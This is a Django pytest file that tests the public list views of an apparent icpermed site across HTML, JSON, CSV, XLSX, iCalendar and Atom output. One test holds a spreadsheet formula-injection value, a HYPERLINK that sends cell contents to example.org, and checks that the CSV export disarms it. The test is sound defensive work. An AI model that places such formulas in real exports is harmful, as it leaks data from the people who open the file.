"""What every public list promises, tested for all lists at once."""

import csv
import io
import json
from datetime import UTC, date, datetime
from xml.etree import ElementTree

import pytest
from django.urls import reverse
from django.utils import timezone
from ical.calendar_stream import IcsCalendarStream
from openpyxl import load_workbook

from icpermed.listings import Feed, Listing
from icpermed.search.refreshing import refresh
from tests import rfc5545
from tests.factories import (
    make_body,
    make_country,
    make_event,
    make_membership,
    make_organisation,
    make_region,
)
from tests.initiatives.factories import (
    make_calldate,
    make_fundingcall,
    make_initiative,
    make_programme,
)
from tests.publications.factories import (
    make_channel,
    make_newsitem,
    make_newsletterissue,
    make_publication,
    make_video,
)
from tests.recognition.factories import make_award, make_bestpractice, make_edition
from tests.reports.factories import make_published_report
from tests.test_conventions import our_routes


def member(name, **fields):
    """An organisation that is a member."""
    return make_membership(make_organisation(name, **fields)).organisation


def in_country(name, **fields):
    """A country that is on the list because of a member."""
    code = {"Alpha": "DE", "Beta": "FR", "Gamma": "IT", "Hidden": "EG"}[name]
    make_membership(make_organisation(country=make_country(code), **fields))


def edition(name, **fields):
    """An edition whose winners are published."""
    return make_edition(title=name, **fields)


def winner(name, *, is_published=True):
    """Somebody who was honoured; without consent, the public does not see it."""
    return make_award(name, is_name_public=is_published)


def change(name, **fields):
    """An organisation that joined today."""
    organisation = make_organisation(name, **fields)
    make_membership(organisation, starts_on=timezone.localdate().isoformat())


def findable(name, **fields):
    """A body that the index knows."""
    make_body(name, **fields)
    refresh()


def funding_call(name, **fields):
    """A funding call with one deadline."""
    make_calldate(make_fundingcall(name, **fields), label="Proposals due", is_deadline=True)


#: For each list, how to put one entry on it. A new list without an entry here fails.
ENTRIES = {
    "change_list": change,
    "search": findable,
    "member_list": member,
    "country_list": in_country,
    "body_list": make_body,
    "event_list": make_event,
    "edition_list": edition,
    "award_list": winner,
    "best_practice_list": make_bestpractice,
    "initiative_list": make_initiative,
    "programme_list": make_programme,
    "funding_call_list": funding_call,
    "newsletter_list": make_newsletterissue,
    "report_list": make_published_report,
    "publication_list": make_publication,
    "video_list": make_video,
    "news_item_list": make_newsitem,
    "channel_list": make_channel,
}

LISTS = {
    pattern.name: pattern.callback.view_class
    for _, pattern in our_routes()
    if issubclass(getattr(pattern.callback, "view_class", object), Listing)
}
ALL_LISTS = pytest.mark.parametrize("name", LISTS)
ALL_FORMS = [(name, form) for name, view in LISTS.items() for form in ["", *view().formats]]
CALENDARS = pytest.mark.parametrize("name", [name for name, form in ALL_FORMS if form == "ics"])
FEEDS = pytest.mark.parametrize("name", [name for name, form in ALL_FORMS if form == "atom"])

pytestmark = pytest.mark.django_db


def get_json(client, name, **query):
    return json.loads(client.get(reverse(name), {**query, "format": "json"}).content)


def get_csv(client, name, **query):
    content = client.get(reverse(name), {**query, "format": "csv"}).content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def get_xlsx(client, name, **query):
    content = client.get(reverse(name), {**query, "format": "xlsx"}).content
    rows = load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True)
    return [["" if cell is None else str(cell) for cell in row] for row in rows]


def get_ics(client, name, **query):
    """The events of a calendar, which has to please the strict reader first."""
    content = client.get(reverse(name), {**query, "format": "ics"}).content
    assert rfc5545.complaints(content) == []
    return IcsCalendarStream.calendar_from_ics(content.decode()).events


def get_atom(client, name, **query):
    """For each entry of a feed its id, title and last change."""
    content = client.get(reverse(name), {**query, "format": "atom"}).content
    atom = "{http://www.w3.org/2005/Atom}"
    return [
        tuple(entry.findtext(atom + part) for part in ["id", "title", "updated"])
        for entry in ElementTree.fromstring(content).iter(f"{atom}entry")
    ]


def test_every_list_has_an_entry_here():
    assert set(LISTS) == set(ENTRIES)


@ALL_LISTS
def test_all_forms_hold_the_same(client, name):
    for entry in ["Alpha", "Beta", "Gamma"]:
        ENTRIES[name](entry)

    items = get_json(client, name)["items"]
    head, *rows = get_csv(client, name)
    page = client.get(reverse(name))

    columns = [column.name for column in LISTS[name].columns]
    assert head == columns
    assert rows == [[str(item[column]) for column in columns] for item in items]
    assert get_xlsx(client, name) == [head, *rows]
    assert len(page.context["rows"]) == len(items) == 3
    assert [row[0].text for row in page.context["rows"]] == [item[columns[0]] for item in items]


@ALL_LISTS
def test_unpublished_records_stay_private(client, name):
    ENTRIES[name]("Alpha")
    ENTRIES[name]("Hidden", is_published=False)

    page = client.get(reverse(name)).content.decode()
    items = get_json(client, name)["items"]

    assert len(items) == 1
    assert "Hidden" not in page
    assert "Egypt" not in page


@pytest.mark.alike
@pytest.mark.parametrize(("name", "form"), ALL_FORMS)
def test_longer_lists_need_no_more_queries(client, name, form, django_assert_max_num_queries):
    def queries():
        with django_assert_max_num_queries(10) as captured:
            response = client.get(reverse(name), {"format": form} if form else {})
        assert response.status_code == 200
        return len(captured)

    ENTRIES[name]("Alpha")
    one = queries()
    for entry in ["Beta", "Gamma"]:
        ENTRIES[name](entry)

    assert queries() == one


@ALL_LISTS
def test_an_unknown_form_is_not_found(client, name):
    assert client.get(reverse(name), {"format": "pdf"}).status_code == 404


@ALL_LISTS
def test_a_filter_that_makes_no_sense_finds_nothing_and_says_so(client, name):
    ENTRIES[name]("Alpha")

    page = client.get(reverse(name), {"on": "yesterday"})
    answer = get_json(client, name, on="yesterday")

    assert page.context["rows"] == []
    assert "Write the day as year, month, day" in page.content.decode()
    assert (answer["items"], list(answer["errors"])) == ([], ["on"])
    assert len(get_csv(client, name, on="yesterday")) == 1


@ALL_LISTS
def test_the_page_links_its_other_forms(client, name):
    response = client.get(reverse(name))

    links = response["Link"]
    page = response.content.decode()
    for form in LISTS[name]().formats:
        assert f"?format={form}>" in links
        assert f'href="{reverse(name)}?format={form}"' in page


@pytest.mark.alike
@ALL_LISTS
def test_sorting_by_every_column_goes_both_ways(client, name):
    for entry in ["Alpha", "Beta", "Gamma"]:
        ENTRIES[name](entry)

    for column in LISTS[name].columns:
        if column.sort:
            up = get_json(client, name, sort=column.name)["items"]
            down = get_json(client, name, sort=f"-{column.name}")["items"]
            values = [item[column.name] for item in up]
            assert values == [item[column.name] for item in reversed(down)] or len(
                set(map(str, values))
            ) < len(values)


@ALL_LISTS
def test_sorting_by_something_unknown_changes_nothing(client, name):
    ENTRIES[name]("Alpha")
    ENTRIES[name]("Beta")

    assert get_json(client, name, sort="password")["items"] == get_json(client, name)["items"]


@ALL_LISTS
def test_an_empty_list_says_so(client, name):
    response = client.get(reverse(name))

    assert response.context["rows"] == []
    assert LISTS[name].empty_message in response.content.decode()


@ALL_LISTS
def test_a_reader_gets_no_cookie(client, name):
    ENTRIES[name]("Alpha")

    assert client.get(reverse(name)).cookies.output() == ""


@ALL_LISTS
def test_pages_beyond_the_last_lead_to_the_last(client, name):
    ENTRIES[name]("Alpha")

    response = client.get(reverse(name), {"page": "99"})

    assert (response.status_code, response["Location"]) == (302, reverse(name))


@CALENDARS
def test_a_calendar_holds_the_records_of_the_list_in_its_order(client, name):
    for entry in ["Alpha", "Beta", "Gamma"]:
        ENTRIES[name](entry)
    ENTRIES[name]("Hidden", is_published=False)

    events = get_ics(client, name)
    items = get_json(client, name)["items"]

    first = LISTS[name].columns[0].name
    assert len(events) == len(items) == 3
    assert [item[first] in event.summary for item, event in zip(items, events, strict=True)] == (
        [True] * 3
    )


@CALENDARS
def test_a_calendar_with_nothing_in_it_is_valid(client, name):
    ENTRIES[name]("Alpha")

    assert get_ics(client, name, on="yesterday") == []


@CALENDARS
def test_a_calendar_is_sent_again_only_when_it_has_changed(client, name):
    ENTRIES[name]("Alpha")
    address = f"{reverse(name)}?format=ics"
    known = client.get(address)["ETag"]

    assert client.get(address, headers={"If-None-Match": known}).status_code == 304
    ENTRIES[name]("Beta")
    assert client.get(address, headers={"If-None-Match": known}).status_code == 200


@CALENDARS
def test_the_page_of_a_calendar_gives_the_address_to_subscribe_to(client, name, settings):
    settings.SITE_URL = "https://example.org"

    page = client.get(reverse(name), {"sort": LISTS[name].columns[0].name})

    assert f'href="webcal://example.org{reverse(name)}?format=ics"' in page.content.decode()


@FEEDS
def test_entries_of_a_feed_have_one_id_each_and_drafts_stay_out(client, name):
    for entry in ["Alpha", "Beta", "Gamma"]:
        ENTRIES[name](entry)
    ENTRIES[name]("Hidden", is_published=False)

    ids, titles, _ = zip(*get_atom(client, name), strict=True)

    assert len(ids) == len(set(ids)) == 3
    assert not [title for title in titles if "Hidden" in title]


def test_a_feed_about_records_knows_them_by_their_address_when_their_day_moves():
    moved_at = datetime(2024, 5, 2, tzinfo=UTC)
    happened = Feed("", "", str, str, published_on=lambda day: day)
    about = Feed("", "", str, str, published_on=lambda day: day, updated_at=lambda day: moved_at)

    before, after = date(2024, 1, 1), date(2024, 2, 2)

    assert about.ids_and_moments(before, "/e/")[0] == "/e/"
    assert about.ids_and_moments(after, "/e/")[::2] == ("/e/", moved_at)
    assert happened.ids_and_moments(before, "/e/")[0] == "/e/#2024-01-01"


def test_cells_that_look_like_formulas_are_disarmed(client):
    member('=HYPERLINK("http://example.org/?"&A1;"click")')

    (_, (name, *_)) = get_csv(client, "member_list")

    assert name == '\'=HYPERLINK("http://example.org/?"&A1;"click")'


def test_members_are_found_by_old_names_without_accents(client):
    organisation = member("Scientific Council", acronym="TÜBİTAK")
    organisation.rename(to="New Council", starts_on="2024")
    member("Another")

    found = [
        [item["name"] for item in get_json(client, "member_list", q=words)["items"]]
        for words in ["scientific COUNCIL", "tubitak", "new", "missing"]
    ]

    assert found == [["New Council"], ["New Council"], ["New Council"], []]


def test_facets_count_what_they_would_find(client):
    member("Alpha", country=make_country("DE"), kind="funder")
    member("Beta", country=make_country("DE"), kind="ministry")
    member("Gamma", country=make_country("FR"), kind="ministry")

    form = client.get(reverse("member_list"), {"kind": "ministry"}).context["filter"].form

    assert list(form.fields["country"].choices)[1:] == [("FR", "France (1)"), ("DE", "Germany (1)")]
    assert list(form.fields["kind"].choices)[1:] == [
        ("funder", "Funding organisation (1)"),
        ("ministry", "Ministry (2)"),
    ]


def test_each_facet_narrows_the_list(client):
    flanders = make_region("Flanders", country=make_country("BE"))
    member("Alpha", country=make_country("BE"), region=flanders, kind="regional_authority")
    make_membership(make_organisation("Beta", country=make_country("EG")), role="observer")

    def names(**query):
        return [item["name"] for item in get_json(client, "member_list", **query)["items"]]

    assert names() == ["Alpha", "Beta"]
    assert names(continent="africa") == names(country="EG") == names(role="observer") == ["Beta"]
    assert names(region="Flanders") == names(kind="regional_authority") == ["Alpha"]
    assert names(country="FR") == []


def test_a_list_answers_for_another_day_with_the_names_of_that_day(client):
    organisation = make_organisation("Old name")
    make_membership(organisation, starts_on="2018", ends_on="2023-06")
    organisation.rename(to="New name", starts_on="2022")

    def names(on):
        return [item["name"] for item in get_json(client, "member_list", on=on)["items"]]

    days = ["2017-12-31", "2018-01-01", "2021-12-31", "2022-01-01", "2023-06-30", "2023-07-01"]
    assert [names(day) for day in days] == [
        [], ["Old name"], ["Old name"], ["New name"], ["New name"], []
    ]  # fmt: skip


def test_the_newest_members_are_a_feed(client):
    make_membership(make_organisation("First"), starts_on="2020")
    make_membership(make_organisation("Second"), starts_on="2023-07")
    make_membership(make_organisation("Always there"), starts_on=None)

    feed = client.get(reverse("member_list"), {"format": "atom"}).content.decode()

    assert feed.index("Second joined") < feed.index("First joined")
    assert "Always there" not in feed
    assert "2023-07-01T00:00:00+02:00" in feed
